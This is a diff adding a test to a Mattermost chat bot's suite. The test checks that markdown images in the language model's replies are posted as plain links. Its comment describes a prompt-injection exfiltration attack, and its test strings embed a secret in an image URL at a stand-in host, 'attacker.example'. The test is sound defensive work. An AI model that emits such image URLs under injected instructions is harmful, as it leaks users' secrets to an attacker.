@@ -124,3 +124,28 @@ async def test_outbound_attachments_are_uploaded_and_attached(bot: MattermostBot
     [file_id] = post.file_ids
     info = bot.mm.files.files[file_id]
     assert (info.name, info.data, info.post_id) == ("chart.png", PNG, post.id)
+
+
+async def test_images_in_the_models_reply_are_posted_as_links(bot: MattermostBot) -> None:
+    # The attack: injected text makes the model write an image whose URL carries a secret; shown inline,
+    # every viewer's client would fetch it with no click.
+    leak = "![](https://attacker.example/p.png?d=SECRET) and ![chart](https://attacker.example/c.png)"
+    code = "```\n![kept](https://example.org/in-code.png)\n```"
+    bot.llm.script(Text(f"Here you go: {leak}\n\n{code}"))
+    dm = bot.dm_with(bot.alice)
+    async with bot.running() as gateway:
+        await bot.mm.post_as(bot.alice, dm, "summarise the page")
+        await bot.reply(dm, lambda p: "Here you go" in p.message)
+        await settled(gateway)
+        await send_to_target(
+            hub_of(gateway), f"mattermost:{dm.id}", "cron says ![x](https://attacker.example/x)"
+        )
+    messages = [p.message for p in bot.replies_in(dm)]
+    assert messages[0] == (
+        "Here you go: [image](https://attacker.example/p.png?d=SECRET) and "
+        f"[chart](https://attacker.example/c.png)\n\n{code}"
+    )
+    assert messages[-1] == "cron says [x](https://attacker.example/x)"
+    # Every version the server saw, edits included, was without an image.
+    bodies = [r.body for r in bot.mm.requests if r.method in ("POST", "PUT") and isinstance(r.body, dict)]
+    assert not any("![](https" in str(b.get("message", "")) for b in bodies)
